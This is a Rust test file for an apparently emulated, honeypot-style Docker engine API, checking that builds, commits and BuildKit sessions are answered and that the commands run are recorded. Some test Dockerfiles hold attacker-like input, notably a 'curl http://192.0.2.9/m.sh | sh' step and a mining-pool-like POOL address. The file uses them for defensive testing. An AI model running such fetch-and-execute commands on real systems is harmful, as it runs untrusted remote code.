//! The Docker engine's images: built, by the classic builder and by BuildKit, and made of containers.

use serde_json::{Value, json};

use super::super::docker::{archive_of, lent};
use super::docker::{answered, call};
use super::{Step, Transcript, answers, text};

/// `docker build` of this Dockerfile.
fn build(query: &str, dockerfile: &str) -> Vec<u8> {
    let context = archive_of("Dockerfile", dockerfile.as_bytes());
    let head = format!(
        "POST /v1.41/build?{query} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-tar\r\nContent-Length: {}\r\n\r\n",
        context.len()
    );
    [head.into_bytes(), context].concat()
}

#[test]
fn an_image_is_built_and_what_it_runs_is_recorded() {
    let dockerfile = "FROM alpine:3.14\nRUN echo one && \\\n  echo two\nCMD [\"id\"]\n";
    let quiet = build("q=1&t=mine", dockerfile);
    let said = answers(&Transcript::tcp("docker", "").run(&[Step::Recv(&quiet), Step::Wait(20_000)])).remove(0).2;
    assert!(said.starts_with("{\"stream\":\"sha256:") && said.lines().count() == 1, "{said}");
    let outcome = Transcript::tcp("docker", "").run(&[Step::Recv(&build("t=mine", dockerfile)), Step::Wait(20_000)]);
    let said = text(&outcome);
    for line in
        ["Step 1/3 : FROM alpine:3.14", "one\\ntwo\\n", "Successfully built ", "Successfully tagged mine:latest"]
    {
        assert!(said.contains(line), "{line}: {said}");
    }
    assert!(
        outcome
            .events
            .iter()
            .any(|event| event.kind == "command" && event.fields["command"] == "echo one &&   echo two")
    );
}

/// An image that was built for it brings its command with it.
#[test]
fn an_image_runs_what_its_dockerfile_says() {
    let dockerfile = "FROM alpine:3.14\nENV POOL=192.0.2.9:3333\nENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"echo $POOL\"]\n";
    let build = build("t=mine", dockerfile);
    let after = [
        call("POST", "/containers/create?name=built", json!({"Image": "mine"})),
        call("POST", "/containers/built/start", Value::Null),
        call("GET", "/containers/built/logs?stdout=1", Value::Null),
        call("GET", "/images/mine/json", Value::Null),
    ];
    let mut steps = vec![Step::Recv(&build), Step::Wait(20_000)];
    steps.extend(after.iter().flat_map(|request| [Step::Recv(request.as_bytes()), Step::Wait(1_000)]));
    let outcome = Transcript::tcp("docker", "").run(&steps);
    let all = answers(&outcome);
    assert!(all[3].2.ends_with("192.0.2.9:3333\n"), "{}", all[3].2);
    assert!(all[4].2.contains("POOL=192.0.2.9:3333"), "{}", all[4].2);
    let commands = outcome.events.iter().filter(|event| event.kind == "command");
    assert!(commands.into_iter().any(|event| event.fields["command"] == "sh -c echo $POOL"));
}

#[test]
fn an_image_made_of_a_container_has_its_files() {
    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", "echo mine > /f"]});
    let outcome = answered(&[
        (call("POST", "/containers/create?name=one", config), 201, "Id"),
        (call("POST", "/containers/one/start", Value::Null), 204, ""),
        (
            call("POST", "/commit?container=one&repo=img&tag=1&comment=msg&changes=CMD%20cat%20%2Ff", Value::Null),
            201,
            "sha256:",
        ),
        (call("POST", "/containers/create?name=two", json!({"Image": "img:1"})), 201, "Id"),
        (call("POST", "/containers/two/start", Value::Null), 204, ""),
        (call("GET", "/containers/two/logs?stdout=1", Value::Null), 200, "mine\n"),
        (call("GET", "/images/img:1/json", Value::Null), 200, "\"Comment\":\"msg\""),
    ]);
    let commands: Vec<&Value> =
        outcome.events.iter().filter(|event| event.kind == "command").map(|event| &event.fields["command"]).collect();
    assert!(commands.contains(&&json!("/bin/sh -c cat /f")), "{commands:?}");
}

/// Each source may be all of the context, as often as it is named.
#[test]
fn a_step_copies_from_so_many_sources_and_no_more() {
    let sources = (0..1_000).map(|at| format!("http://192.0.2.9/{at} ")).collect::<String>();
    let build = build("t=mine", &format!("FROM alpine:3.14\nADD {sources}/d/\n"));
    let outcome = Transcript::tcp("docker", "").run(&[Step::Recv(&build), Step::Wait(20_000)]);
    assert_eq!(outcome.downloads.len(), 64);
    assert!(text(&outcome).contains("Successfully built "));
}

/// The client lends its files on one connection and asks for the build on another.
#[test]
fn buildkit_takes_the_files_that_the_client_lends_and_tells_what_it_does() {
    let head = |path: &str, more: &str| format!("POST {path} HTTP/1.1\r\nHost: x\r\n{more}Content-Length: 0\r\n\r\n");
    let build = head("/v1.41/build?version=2&remote=client-session&session=abc&t=mine", "");
    let upgrade = "Connection: Upgrade\r\nUpgrade: h2c\r\nX-Docker-Expose-Session-Uuid: abc\r\n";
    let dockerfile =
        "FROM alpine:3.14\nRUN curl http://192.0.2.9/m.sh | sh; cat /nothing\nCOPY f /d\nCMD [\"cat\", \"/d\"]\n";
    let session =
        [head("/session", upgrade).into_bytes(), lent(&[("Dockerfile", dockerfile), ("f", "from the context")])]
            .concat();
    let inputs = [
        build.as_bytes(),
        &session,
        build.as_bytes(),
        head("/build?version=2&remote=client-session&session=nobody", "").as_bytes(),
    ]
    .map(<[u8]>::to_vec);
    let docker = Transcript::tcp("docker", "");
    let outcomes = docker.connections(&inputs.iter().map(Vec::as_slice).collect::<Vec<_>>());
    let asked = outcomes[1].sent();
    let greeting = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    assert!(asked.starts_with(greeting), "{}", text(&outcomes[1]));
    assert!(text(&outcomes[1]).contains("/moby.filesync.v1.FileSync/DiffCopy"));
    assert!(
        outcomes[1].samples.iter().any(|sample| sample.bytes == dockerfile.as_bytes()),
        "{:?}",
        outcomes[1].samples
    );
    assert!(text(&outcomes[2]).contains("{\"id\":\"moby.buildkit.trace\",\"aux\":\""), "{}", text(&outcomes[2]));
    let ran = outcomes[2].the_event("command");
    assert_eq!(ran.fields["command"], "curl http://192.0.2.9/m.sh | sh; cat /nothing");
}
